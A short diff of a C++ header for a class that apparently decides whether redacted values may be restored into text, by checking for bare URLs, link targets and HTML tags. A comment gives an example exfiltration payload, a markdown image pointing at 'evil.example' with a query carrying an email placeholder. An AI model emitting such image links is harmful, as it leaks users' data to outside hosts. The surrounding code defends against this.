@@ -16,7 +16,7 @@ namespace sluice::restore {
 /// values away: `![x](https://evil.example/?q=EMAIL_...)`.
 ///
 /// Each of the three readers sees every byte, so that none can be blinded by what another takes
-/// for its own. State is a few words; nothing of the text is kept beyond one URL's host.
+/// for its own. State is a few words and at most 256 bytes of the current word.
 class Surroundings {
  public:
   /// @param hosts  see UrlCheck
@@ -29,7 +29,7 @@ class Surroundings {
     html_tag_.feed(text);
   }
 
-  [[nodiscard]] bool may_restore() const {
+  [[nodiscard]] bool may_restore() {
     return !bare_url_.blocks() && !link_target_.blocks() && !html_tag_.blocks();
   }
 
